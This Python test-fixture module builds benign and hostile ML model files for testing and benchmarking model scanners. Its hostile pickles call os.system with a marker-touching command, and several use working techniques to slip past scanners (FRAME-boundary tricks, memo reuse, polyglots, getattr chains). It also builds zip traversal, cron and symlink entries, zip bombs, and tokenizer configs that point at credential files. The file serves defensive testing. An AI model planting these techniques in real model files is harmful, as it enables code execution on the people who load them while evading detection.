"""Hostile and benign model files for the unsafe-code check and for benchmarking scanners.

Each writer puts one model (a file, or a directory for multi-file models) under `directory`,
creating it, and returns its path. A payload, if it ever runs, creates `marker(directory)`:
a test proves a payload never ran by that file's absence. Pickles are written opcode by opcode
where the point is their exact bytes, with `pickle.dumps` where the point is what real tools
write.
"""

from __future__ import annotations

import base64
import importlib.util
import io
import json
import marshal
import math
import os
import pickle
import shlex
import stat
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import lru_cache
from pathlib import Path
from typing import Any

import numpy as np

from services.stack.samples import write_sample_model

MARKER = "PWNED"

Writer = Callable[[Path], Path]


def marker(directory: Path) -> Path:
    """The file a payload creates if it runs."""
    return directory / MARKER


def payload_command(directory: Path) -> str:
    return f"touch {shlex.quote(str(marker(directory)))}"


# --- Pickle opcodes ------------------------------------------------------------------------


def op_str(text: str) -> bytes:
    """BINUNICODE: a string as protocol 2 (and torch.save) writes it."""
    data = text.encode("utf-8")
    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data


def op_short_str(text: str) -> bytes:
    """SHORT_BINUNICODE: a short string as protocol 4+ writes it."""
    data = text.encode("utf-8")
    return pickle.SHORT_BINUNICODE + bytes([len(data)]) + data


def op_int(value: int) -> bytes:
    if 0 <= value < 256:
        return pickle.BININT1 + bytes([value])
    return pickle.BININT + struct.pack("<i", value)


def op_tuple(*items: bytes) -> bytes:
    return pickle.MARK + b"".join(items) + pickle.TUPLE


def op_global(module: str, name: str) -> bytes:
    """GLOBAL, as protocols 0-2 (and torch.save) import."""
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def op_stack_global(module: str, name: str) -> bytes:
    """STACK_GLOBAL, as protocols 4-5 import."""
    return op_short_str(module) + op_short_str(name) + pickle.STACK_GLOBAL


def op_call(func: bytes, *args: bytes) -> bytes:
    return func + op_tuple(*args) + pickle.REDUCE


def whole_pickle(body: bytes, protocol: int = 2) -> bytes:
    return pickle.PROTO + bytes([protocol]) + body + pickle.STOP


def os_system_pickle(directory: Path) -> bytes:
    """The classic: GLOBAL os.system, called with a shell command."""
    return whole_pickle(op_call(op_global("os", "system"), op_str(payload_command(directory))))


def state_dict_body(shapes: Mapping[str, tuple[int, ...]], *, legacy: bool) -> bytes:
    """An OrderedDict of float32 tensors as torch.save pickles it (protocol 2): each tensor is
    _rebuild_tensor_v2 of a persistent storage id, the storage's bytes kept outside the pickle."""
    ordered_dict = op_call(op_global("collections", "OrderedDict"))
    body = ordered_dict + pickle.MARK
    for key, (name, shape) in enumerate(shapes.items()):
        numel = math.prod(shape)
        strides = [math.prod(shape[i + 1 :]) for i in range(len(shape))]
        storage = [op_str("storage"), op_global("torch", "FloatStorage"), op_str(str(key))]
        storage += [op_str("cpu"), op_int(numel)] + ([pickle.NONE] if legacy else [])
        body += op_str(name) + op_call(
            op_global("torch._utils", "_rebuild_tensor_v2"),
            op_tuple(*storage) + pickle.BINPERSID,
            op_int(0),
            op_tuple(*map(op_int, shape)),
            op_tuple(*map(op_int, strides)),
            pickle.NEWFALSE,
            ordered_dict,
        )
    return body + pickle.SETITEMS


SHAPES = {"embed.weight": (8, 4), "embed.bias": (4,)}


def torch_zip(path: Path, data_pkl: bytes, *entries: tuple[str, bytes]) -> Path:
    """torch.save's zip layout: <archive>/data.pkl, byteorder, data/<key>, version."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf, warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # duplicate names, on purpose
        zf.writestr("archive/data.pkl", data_pkl)
        zf.writestr("archive/byteorder", "little")
        for name, data in entries:
            zf.writestr(name, data)
        zf.writestr("archive/version", "3\n")
    return path


def tensor_records() -> list[tuple[str, bytes]]:
    return [
        (f"archive/data/{key}", bytes(4 * math.prod(shape)))
        for key, shape in enumerate(SHAPES.values())
    ]


# --- Benign --------------------------------------------------------------------------------


def write_handmade_torch_zip(directory: Path) -> Path:
    """A torch.save state dict without torch: same zip layout, same pickle."""
    data_pkl = whole_pickle(state_dict_body(SHAPES, legacy=False))
    return torch_zip(directory / "model.pt", data_pkl, *tensor_records())


def _legacy_torch_file(path: Path, state_dict_pickle: bytes, *, sys_info: bytes = b"") -> Path:
    """The pre-1.6 torch.save format: magic number, protocol version, sys info, the object and
    its storage keys (five pickles), then each storage's raw bytes."""
    magic = (0x1950A86A20F9469CFC6C).to_bytes(10, "little")
    info = {"protocol_version": 1001, "little_endian": True,
            "type_sizes": {"short": 2, "int": 4, "long": 4}}  # fmt: skip
    keys = pickle.dumps([str(key) for key in range(len(SHAPES))], protocol=2)
    raw = b"".join(
        struct.pack("<q", math.prod(s)) + bytes(4 * math.prod(s)) for s in SHAPES.values()
    )
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as fh:
        fh.write(whole_pickle(pickle.LONG1 + bytes([len(magic)]) + magic))
        fh.write(whole_pickle(pickle.BININT2 + struct.pack("<H", 1001)))
        fh.write(sys_info or pickle.dumps(info, protocol=2))
        fh.write(state_dict_pickle + keys + raw)
    return path


def write_handmade_torch_legacy(directory: Path) -> Path:
    body = whole_pickle(state_dict_body(SHAPES, legacy=True))
    return _legacy_torch_file(directory / "pytorch_model.bin", body)


def write_torch_zip_state_dict(directory: Path) -> Path:
    """What torch.save writes today (needs torch)."""
    import torch

    directory.mkdir(parents=True, exist_ok=True)
    layer = torch.nn.Linear(4, 3)
    state = layer.state_dict() | {"half": torch.ones(2, dtype=torch.float16)}
    state |= {"bf16": torch.ones(2, dtype=torch.bfloat16), "steps": torch.tensor(3)}
    torch.save(state, directory / "model.pt")
    return directory / "model.pt"


def write_torch_legacy_state_dict(directory: Path) -> Path:
    """torch.save's pre-1.6 format, still written on request (needs torch)."""
    import torch

    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "pytorch_model.bin"
    torch.save(torch.nn.Linear(4, 3).state_dict(), path, _use_new_zipfile_serialization=False)
    return path


def _arrays() -> dict[str, Any]:
    return {
        "weights": np.arange(12, dtype=np.float32).reshape(3, 4),
        "scale": np.float64(0.5),
        "dtype": np.dtype("int8"),
        "ids": {1, 2, 3},
        "raw": b"\x00\x01",
        "complex": 1 + 2j,
    }


def write_numpy_pickle_protocol2(directory: Path) -> Path:
    """Arrays as old tools pickle them: _reconstruct, and bytes via _codecs.encode."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "arrays.pkl"
    path.write_bytes(pickle.dumps(_arrays(), protocol=2))
    return path


def write_numpy_pickle_protocol5(directory: Path) -> Path:
    """Arrays as Python 3.8+ pickles them by default (protocol 5: _frombuffer)."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "arrays.pkl"
    path.write_bytes(pickle.dumps(_arrays(), protocol=5))
    return path


def write_numpy_pickle_large(directory: Path) -> Path:
    """An array bigger than the scanner reads into memory: its bytes are skipped, not read."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "big.pkl"
    path.write_bytes(pickle.dumps({"w": np.ones(400_000, dtype=np.float32)}, protocol=4))
    return path


def write_safetensors_dir(directory: Path) -> Path:
    return write_sample_model(directory / "model", layers=1, hidden=16, heads=2, vocab=32)


def write_numpy_arrays(directory: Path) -> Path:
    """A plain .npy and a compressed .npz (a zip of .npy files)."""
    model = directory / "arrays"
    model.mkdir(parents=True, exist_ok=True)
    np.save(model / "embedding.npy", np.ones((4, 4), dtype=np.float16))
    np.savez_compressed(model / "layers.npz", w=np.zeros((8, 8)), b=np.arange(8))
    return model


def _keras_layer(class_name: str, config: dict[str, Any], module: str = "keras.layers") -> Any:
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None}


def keras_model(*layers: Any) -> Any:
    """A Keras 3 Sequential model's config.json."""
    input_layer = _keras_layer("InputLayer", {"batch_shape": [None, 4], "name": "input"})
    loss = {
        "module": "keras.src.losses.losses", "class_name": "function",
        "config": "mean_squared_error", "registered_name": "mean_squared_error",
    }  # fmt: skip
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": [input_layer, *layers]},
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
        "compile_config": {"optimizer": "adam", "loss": loss},
    }


def dense(activation: Any = "relu") -> Any:
    initializer = _keras_layer("GlorotUniform", {"seed": None}, module="keras.initializers")
    config = {"name": "dense", "units": 2, "activation": activation}
    return _keras_layer("Dense", config | {"kernel_initializer": initializer})


def _lambda_code() -> str:
    code = compile("lambda x: x", "<lambda>", "eval")
    return base64.b64encode(marshal.dumps(code)).decode()


def _h5_bytes() -> bytes:
    import h5py

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as h5:
        h5.create_group("layers")
    return buffer.getvalue()


def keras_zip(path: Path, config: Any) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.6.0"}))
        zf.writestr("config.json", json.dumps(config))
        zf.writestr("model.weights.h5", _h5_bytes())
    return path


def write_keras_zip(directory: Path) -> Path:
    return keras_zip(directory / "model.keras", keras_model(dense()))


def _keras_h5(path: Path, config: Any) -> Path:
    import h5py

    path.parent.mkdir(parents=True, exist_ok=True)
    with h5py.File(path, "w") as h5:
        h5.attrs["model_config"] = json.dumps(config)
        h5.attrs["keras_version"] = "2.15.0"
        h5.attrs["backend"] = "tensorflow"
        h5.create_group("model_weights")
    return path


def _keras2_model(*layers: Any) -> Any:
    first = {"class_name": "Dense", "config": {"name": "dense", "units": 2, "activation": "relu"}}
    return {
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": [first, *layers]},
    }


def write_keras_h5(directory: Path) -> Path:
    return _keras_h5(directory / "model.h5", _keras2_model())


# --- Hostile: pickles ----------------------------------------------------------------------


def write_reduce_os_system(directory: Path) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "model.pkl"
    path.write_bytes(os_system_pickle(directory))
    return path


class _RunsShell:
    """What an attacker pickles: an object whose __reduce__ is a shell command."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (self.command,)


def write_reduce_os_system_pickled(directory: Path) -> Path:
    """The same payload as pickle.dumps writes it (protocol 5: STACK_GLOBAL posix.system)."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "model.pkl"
    path.write_bytes(pickle.dumps({"model": _RunsShell(payload_command(directory))}, protocol=5))
    return path


def write_torch_zip_payload(directory: Path) -> Path:
    """A torch.save-shaped zip whose data.pkl runs a command (torch.load(weights_only=False))."""
    return torch_zip(directory / "pytorch_model.bin", os_system_pickle(directory))


def write_zip_duplicate_data_pkl(directory: Path) -> Path:
    """Two data.pkl entries, the first one hostile. zipfile and torch 2.13 read the last copy
    (benign); a reader that takes the first one runs the payload."""
    benign = whole_pickle(state_dict_body(SHAPES, legacy=False))
    return torch_zip(
        directory / "model.pt",
        os_system_pickle(directory),
        ("archive/data.pkl", benign),
        *tensor_records(),
    )


def write_memo_stack_global(directory: Path) -> Path:
    """STACK_GLOBAL whose module and name come from the memo, not from string opcodes."""
    body = op_short_str("os") + pickle.MEMOIZE + op_short_str("system") + pickle.MEMOIZE
    body += pickle.BINGET + b"\x00" + pickle.BINGET + b"\x01" + pickle.STACK_GLOBAL
    body += op_tuple(op_short_str(payload_command(directory))) + pickle.REDUCE
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "model.pkl"
    path.write_bytes(whole_pickle(body, protocol=4))
    return path


def write_memo_across_pickles(directory: Path) -> Path:
    """The legacy torch format loads five pickles, each with a fresh memo. Here the third (sys
    info, which torch ignores) memoises decoy strings; the fourth memoises 'os' and 'system'
    and reads them back by index. A scanner that keeps one memo across pickles resolves those
    indices to the decoys and sees torch._utils._rebuild_tensor_v2."""
    decoys = op_short_str("torch._utils") + pickle.MEMOIZE + op_short_str("_rebuild_tensor_v2")
    sys_info = whole_pickle(decoys + pickle.MEMOIZE + pickle.POP + pickle.POP + pickle.EMPTY_DICT)
    body = op_short_str("os") + pickle.MEMOIZE + op_short_str("system") + pickle.MEMOIZE
    body += pickle.BINGET + b"\x00" + pickle.BINGET + b"\x01" + pickle.STACK_GLOBAL
    body += op_tuple(op_short_str(payload_command(directory))) + pickle.REDUCE
    payload = whole_pickle(body, protocol=4)
    return _legacy_torch_file(directory / "model.pkl", payload, sys_info=sys_info)


def _import_chain(directory: Path, getter: tuple[str, str]) -> bytes:
    """getattr(importlib.import_module('os'), 'system')(command), with `getter` as getattr."""
    module = op_call(op_stack_global("importlib", "import_module"), op_short_str("os"))
    system = op_call(op_stack_global(*getter), module, op_short_str("system"))
    return whole_pickle(op_call(system, op_short_str(payload_command(directory))), protocol=4)


def write_importlib_getattr_chain(directory: Path) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "model.pkl"
    path.write_bytes(_import_chain(directory, ("builtins", "getattr")))
    return path


def write_importlib_getattr_static_chain(directory: Path) -> Path:
    """Both imports are in picklescan's 'suspicious' tier, which it does not count."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "model.pkl"
    path.write_bytes(_import_chain(directory, ("inspect", "getattr_static")))
    return path


def write_payload_then_broken_tail(directory: Path) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "model.pkl"
    path.write_bytes(os_system_pickle(directory) + b"\xff\xfe not a pickle")
    return path


def write_benign_then_garbage(directory: Path) -> Path:
    """A harmless pickle and then bytes that are not one: a scanner must not call this clean."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "model.pkl"
    path.write_bytes(pickle.dumps({"weights": [1.0, 2.0]}, protocol=4) + b"\x00garbage")
    return path


def write_truncated_payload(directory: Path) -> Path:
    """No STOP: pickle.load runs the call, then fails on the missing end."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "model.pkl"
    path.write_bytes(os_system_pickle(directory)[:-1])
    return path


def write_pickle_zip_polyglot(directory: Path) -> Path:
    """A pickle with a zip appended: pickle.load reads the pickle at the start, zip readers the
    archive at the end; a scanner that asks "is this a zip?" first scans only the zip."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("data.pkl", pickle.dumps({"weights": [1.0]}, protocol=2))
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "model.pkl"
    path.write_bytes(os_system_pickle(directory) + archive.getvalue())
    return path


def write_protocol0_unknown_extension(directory: Path) -> Path:
    """Protocol 0 has no header; with an extension no loader claims, only content tells."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "weights.dat"
    command = payload_command(directory).encode()
    path.write_bytes(b"cos\nsystem\n(V" + command + b"\ntR.")
    return path


# --- Hostile: numpy ------------------------------------------------------------------------


def write_object_npy(directory: Path) -> Path:
    """Harmless objects, but numpy.load must unpickle them (allow_pickle=True)."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "objects.npy"
    np.save(path, np.array([{"a": 1}, None], dtype=object), allow_pickle=True)
    return path


def write_object_npy_payload(directory: Path) -> Path:
    """A .npy header of dtype object followed by a command-running pickle."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "embedding.npy"
    header = {"descr": "|O", "fortran_order": False, "shape": (1,)}
    with path.open("wb") as fh:
        np.lib.format.write_array_header_1_0(fh, header)
        fh.write(os_system_pickle(directory))
    return path


def write_npz_object_array(directory: Path) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "arrays.npz"
    np.savez(path, ok=np.zeros(3), objs=np.array([{"a": 1}], dtype=object))
    return path


# --- Hostile: archives ---------------------------------------------------------------------


def write_zip_path_traversal(directory: Path) -> Path:
    """A torch zip that, once unzipped, writes ../evil.py next to the model directory."""
    entry = ("../evil.py", "import os\nos.system('id')\n")
    return torch_zip(
        directory / "model.pt",
        whole_pickle(state_dict_body(SHAPES, legacy=False)),
        *tensor_records(),
        (entry[0], entry[1].encode()),
    )


def write_zip_absolute_path(directory: Path) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "weights.zip"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("weights.bin", bytes(16))
        zf.writestr(zipfile.ZipInfo("/etc/cron.d/evil"), "* * * * * root id\n")
    return path


def write_zip_symlink(directory: Path) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "weights.zip"
    link = zipfile.ZipInfo("weights.bin")
    link.create_system = 3  # Unix: external_attr carries the mode
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr(link, "/etc/passwd")
    return path


_BOMB_CHUNK = 16 * 1024 * 1024


@lru_cache(maxsize=4)
def _deflated_zeros(chunks: int) -> tuple[bytes, int]:
    """`chunks` x 16 MiB of zeros, deflated (~16 KB per chunk), and its CRC-32. Deflating 16 MiB
    once and repeating it is valid: a full flush ends each copy on a byte boundary with no
    back-reference across it. 1 GiB takes ~0.3 s, once per process."""
    zeros = bytes(_BOMB_CHUNK)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    segment = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)
    final_block = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    crc = 0
    for _ in range(chunks):
        crc = zlib.crc32(zeros, crc)
    return segment * chunks + final_block, crc


def _deflated_zip(path: Path, entries: list[tuple[str, int]]) -> Path:
    """A zip of (name, chunks of 16 MiB zeros) entries, written record by record, because
    zipfile would deflate every byte itself."""
    date = (1 << 5) | 1  # 1980-01-01
    body, directory = b"", b""
    for name, chunks in entries:
        data, crc = _deflated_zeros(chunks)
        size, encoded = chunks * _BOMB_CHUNK, name.encode()
        fields = (zipfile.ZIP_DEFLATED, 0, date, crc, len(data), size, len(encoded))
        directory += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, *fields,
                                 0, 0, 0, 0, 0, len(body)) + encoded  # fmt: skip
        body += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, *fields, 0) + encoded + data
    end = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(directory), len(body), 0
    )
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(body + directory + end)
    return path


def write_zip_bomb(directory: Path) -> Path:
    """A real zip bomb: one entry that inflates to 1 GiB from ~1 MB."""
    return _deflated_zip(directory / "weights.zip", [("weights.bin", 64)])


def write_zip_bomb_many_entries(directory: Path) -> Path:
    """80 entries of 16 MiB each: none alarming alone, 1.25 GiB from ~1.3 MB together."""
    return _deflated_zip(directory / "shards.zip", [(f"shard-{i}.bin", 1) for i in range(80)])


def write_legacy_tar_checkpoint(directory: Path) -> Path:
    """torch.load(weights_only=False) still reads the pre-2018 tar format and unpickles it."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "model.pt"
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in (
            ("sys_info", pickle.dumps({}, 2)),
            ("pickle", os_system_pickle(directory)),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


# --- Hostile: Keras, configs, source -------------------------------------------------------


def _lambda_layer(keras3: bool) -> Any:
    if keras3:
        function = {"class_name": "__lambda__", "config": {"value": [_lambda_code(), None, None]}}
        return _keras_layer("Lambda", {"name": "lambda", "function": function})
    config = {"name": "lambda", "function": [_lambda_code(), None, None]}
    return {"class_name": "Lambda", "config": config | {"function_type": "lambda"}}


def write_keras_lambda_zip(directory: Path) -> Path:
    return keras_zip(directory / "model.keras", keras_model(dense(), _lambda_layer(True)))


def write_keras_module_reference_zip(directory: Path) -> Path:
    """A Dense layer whose activation is os.system: Keras imports the module to find it."""
    activation = {"module": "os", "class_name": "function", "config": "system"}
    return keras_zip(directory / "model.keras", keras_model(dense(activation)))


def write_keras_lambda_h5(directory: Path) -> Path:
    return _keras_h5(directory / "model.h5", _keras2_model(_lambda_layer(False)))


def write_saved_model_keras_lambda(directory: Path) -> Path:
    model = directory / "saved_model"
    (model / "variables").mkdir(parents=True, exist_ok=True)
    (model / "saved_model.pb").write_bytes(b"\x08\x01")
    layer = json.dumps({"class_name": "Lambda", "config": {"name": "lambda"}}).encode()
    (model / "keras_metadata.pb").write_bytes(b"\x0a" + bytes([len(layer)]) + layer)
    return model


def write_saved_model_keras_lambda_past_64k(directory: Path) -> Path:
    """The same Lambda after a 2 MiB string field: a reader of the file's first 64 KiB (a
    remote plan that goes by content) does not see it; the scan reads the whole file."""
    model = write_saved_model_keras_lambda(directory)
    layer = (model / "keras_metadata.pb").read_bytes()
    pad = b"a" * (2 << 20)
    length = bytes([0x80, 0x80, 0x80, 0x01])  # the varint of 2 << 20
    (model / "keras_metadata.pb").write_bytes(b"\x12" + length + pad + layer)
    return model


def _model_with_config(directory: Path, **extra: Any) -> Path:
    model = write_safetensors_dir(directory)
    config = json.loads((model / "config.json").read_text())
    (model / "config.json").write_text(json.dumps(config | extra, indent=2))
    return model


def write_config_trust_remote_code(directory: Path) -> Path:
    return _model_with_config(directory, trust_remote_code=True)


def write_config_auto_map(directory: Path) -> Path:
    return _model_with_config(directory, auto_map={"AutoModel": "modeling_x.XModel"})


def write_config_hub_kernel_attention(directory: Path) -> Path:
    """transformers fetches a Hub kernel named as the attention and runs its compiled code,
    local_files_only or not (the `kernels` package; transformers 5)."""
    return _model_with_config(directory, attn_implementation="kernels-community/flash-attn2")


def write_config_hub_kernel_per_submodel(directory: Path) -> Path:
    return _model_with_config(
        directory, _attn_implementation={"text_config": "sdpa", "vision_config": "evil/kern@v1"}
    )


def write_tokenizer_config_vocab_outside(directory: Path) -> Path:
    """transformers 5's GPT2Tokenizer opens `vocab` and `merges` given as strings, anywhere on
    the host, over the folder's own vocab.json and merges.txt."""
    model = write_safetensors_dir(directory)
    (model / "vocab.json").write_text(json.dumps({"<|endoftext|>": 0, "a": 1}))
    (model / "merges.txt").write_text("#version: 0.2\n")
    tokenizer = {
        "tokenizer_class": "GPT2Tokenizer",
        "vocab": "/etc/preflight/credentials.json",
        "merges": "../../merges.txt",
    }
    (model / "tokenizer_config.json").write_text(json.dumps(tokenizer))
    return model


def write_tokenizer_config_vocab_relative(directory: Path) -> Path:
    """A relative name is opened from the loader's working directory, not the model folder:
    `credentials.json` read a secrets file of the benchmarker's data directory."""
    model = write_safetensors_dir(directory)
    (model / "vocab.json").write_text(json.dumps({"<|endoftext|>": 0, "a": 1}))
    (model / "merges.txt").write_text("#version: 0.2\n")
    tokenizer = {"tokenizer_class": "GPT2Tokenizer", "vocab": "credentials.json"}
    (model / "tokenizer_config.json").write_text(json.dumps(tokenizer))
    return model


def write_special_tokens_map_vocab_outside(directory: Path) -> Path:
    """transformers copies every key of special_tokens_map.json into the tokenizer's arguments."""
    model = write_safetensors_dir(directory)
    (model / "special_tokens_map.json").write_text(
        json.dumps({"eos_token": "<|endoftext|>", "vocab": "/etc/preflight/vocab.json"})
    )
    return model


def write_special_tokens_map_tokenizer_file_outside(directory: Path) -> Path:
    """special_tokens_map.json's tokenizer_file replaces the folder's tokenizer.json."""
    model = write_safetensors_dir(directory)
    (model / "special_tokens_map.json").write_text(
        json.dumps({"eos_token": "</s>", "tokenizer_file": "/etc/preflight/tokenizer.json"})
    )
    return model


def write_tokenizer_config_gguf_file_outside(directory: Path) -> Path:
    """transformers reads the tokenizer from any GGUF file `gguf_file` names."""
    model = write_safetensors_dir(directory)
    (model / "tokenizer_config.json").write_text(json.dumps({"gguf_file": "../../host.gguf"}))
    return model


def write_fast_tokenizer_files_outside(directory: Path) -> Path:
    """`fast_tokenizer_files` picks a tokenizer.json by transformers version, joined to the folder
    as given: a name through a directory called tokenizer.1.json reached any host file."""
    model = write_safetensors_dir(directory)
    (model / "tokenizer.1.json").mkdir()
    files = ["tokenizer.1.json/../../../etc/hostname", "tokenizer.4.0.0.json"]
    (model / "tokenizer_config.json").write_text(json.dumps({"fast_tokenizer_files": files}))
    return model


def write_config_transformers_weights_bin(directory: Path) -> Path:
    """transformers reads the file `transformers_weights` names with torch.load unless it is
    safetensors, use_safetensors or not."""
    return _model_with_config(directory, transformers_weights="adapter_model.bin")


def write_tokenizer_config_auto_map(directory: Path) -> Path:
    model = write_safetensors_dir(directory)
    tokenizer = {"auto_map": {"AutoTokenizer": ["tokenization_x.XTokenizer", None]}}
    (model / "tokenizer_config.json").write_text(json.dumps(tokenizer))
    return model


# --- Pickles the real unpickler reads differently from pickletools ---------------------------
# The C unpickler on a file object without peek() (torch.load's BytesIO of data.pkl, a BytesIO
# of downloaded bytes) buffers a FRAME's bytes; an opcode whose argument runs past the frame's
# end makes it drop the rest of the frame and read on from the file after it. pickletools (and
# every scanner built on genops) reads straight on. CPython issue 154848; fickling's
# test_frame_boundary_divergence.


def _frame(body: bytes) -> bytes:
    return pickle.FRAME + struct.pack("<Q", len(body)) + body


def _system_call_ops(directory: Path) -> bytes:
    """os.system(touch marker), as protocol 0-2 opcodes, ending in STOP."""
    return op_call(op_global("os", "system"), op_str(payload_command(directory))) + pickle.STOP


def frame_evasion_pickle(directory: Path) -> bytes:
    """A frame that ends two bytes into a BINBYTES length. genops: one BINBYTES of 256 bytes,
    then STOP (harmless). The unpickler: the length is read from the 4 bytes after the frame
    (0: an empty bytes), then POP, then the os.system call that genops saw as data."""
    hidden = 256
    length = struct.pack("<I", hidden)
    in_frame = pickle.BINBYTES + length[:2]
    after = length[2:] + b"\x00\x00" + pickle.POP + _system_call_ops(directory)
    assert len(after) <= hidden + 2
    return pickle.PROTO + b"\x04" + _frame(in_frame) + after.ljust(hidden + 2, b"\x00") + b"."


def write_frame_evasion_pkl(directory: Path) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "model.pkl").write_bytes(frame_evasion_pickle(directory))
    return directory / "model.pkl"


def write_frame_evasion_torch_zip(directory: Path) -> Path:
    return torch_zip(directory / "pytorch_model.bin", frame_evasion_pickle(directory))


def write_frame_evasion_torch_legacy(directory: Path) -> Path:
    return _legacy_torch_file(directory / "model.pt", frame_evasion_pickle(directory))


def write_frame_inside_frame(directory: Path) -> Path:
    """A FRAME inside a frame, declaring more bytes than the outer frame has left: the
    unpickler drops the outer frame's rest and runs what follows it; genops sees the inner
    FRAME, then a BINBYTES whose value is that same payload."""
    payload = _system_call_ops(directory)
    decoy = pickle.BINBYTES + struct.pack("<I", len(payload))
    outer = _frame(pickle.FRAME + struct.pack("<Q", len(payload)) + decoy)
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / "model.pkl"
    path.write_bytes(pickle.PROTO + b"\x04" + outer + payload + pickle.STOP)
    return path


def write_frame_tail_after_stop(directory: Path) -> Path:
    """Legacy torch format whose state-dict pickle ends inside its frame. genops reads the next
    pickle (the storage keys) from the frame's tail: a harmless list. torch.load's next
    pickle.load starts after the frame, where the os.system call is."""
    decoy_keys = pickle.dumps([], protocol=2)
    state = whole_pickle(state_dict_body(SHAPES, legacy=True))[2:]  # without its PROTO
    body = state + decoy_keys
    framed = pickle.PROTO + b"\x04" + _frame(body)
    return _legacy_torch_file(directory / "model.pt", framed + os_system_pickle(directory))


# Pickles that parse opcode by opcode but cannot load: pickle.load raises part way. A scanner
# that passes them has not read what the unpickler does.


def _write_pickle(directory: Path, data: bytes, name: str = "model.pkl") -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    (directory / name).write_bytes(data)
    return directory / name


def write_tuple_without_mark(directory: Path) -> Path:
    return _write_pickle(directory, whole_pickle(op_int(1) + op_int(2) + pickle.TUPLE))


def write_stack_underflow(directory: Path) -> Path:
    return _write_pickle(directory, whole_pickle(pickle.EMPTY_DICT + op_str("k") + pickle.SETITEM))


def write_memo_get_unset(directory: Path) -> Path:
    return _write_pickle(directory, whole_pickle(pickle.BINGET + b"\x07"))


# --- Found in review: where the unpickler, zip readers or the sniffer read more than we did --


def _shell_call_protocol0(directory: Path) -> bytes:
    return b"cos\nsystem\n(S'" + payload_command(directory).encode() + b"'\ntR."


def write_int_base0_unknown_file(directory: Path) -> Path:
    """C's load_int reads INT with strtol base 0: `I0x1` is 1. A parser that stops there sees
    no import; pickle.load runs on into os.system."""
    return _write_pickle(directory, b"I0x1\n0" + _shell_call_protocol0(directory))


def write_short_binstring_stack_global(directory: Path) -> Path:
    """Python 3 loads SHORT_BINSTRING as str (encoding='ASCII'), so it names STACK_GLOBAL's
    module and attribute; a file that does not open with PROTO."""

    def short(text: str) -> bytes:
        return b"U" + bytes([len(text)]) + text.encode()

    data = short("os") + short("system") + pickle.STACK_GLOBAL
    data += short(payload_command(directory)) + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP
    return _write_pickle(directory, data)


def write_frame_evasion_without_proto(directory: Path) -> Path:
    """The FRAME evasion in a file with no PROTO header (the unpickler does not need one)."""
    call = _shell_call_protocol0(directory)
    in_frame = pickle.NONE + pickle.POP + pickle.BINBYTES + struct.pack("<I", 5 + len(call))[:2]
    data = _frame(in_frame) + b"\x00\x00\x00\x00" + call
    return _write_pickle(directory, data)


def write_tar_named_like_json(directory: Path) -> Path:
    """torch.load's legacy tar format, whose first member is named '[x': the file starts like
    JSON. torch.load(weights_only=False) unpickles its 'storages' member."""
    buf = io.BytesIO()
    call = _shell_call_protocol0(directory)
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        members = (("[x", b"{}"), ("sys_info", call), ("storages", call), ("tensors", call))
        for name, data in (*members, ("pickle", call)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "pytorch_model.bin").write_bytes(buf.getvalue())
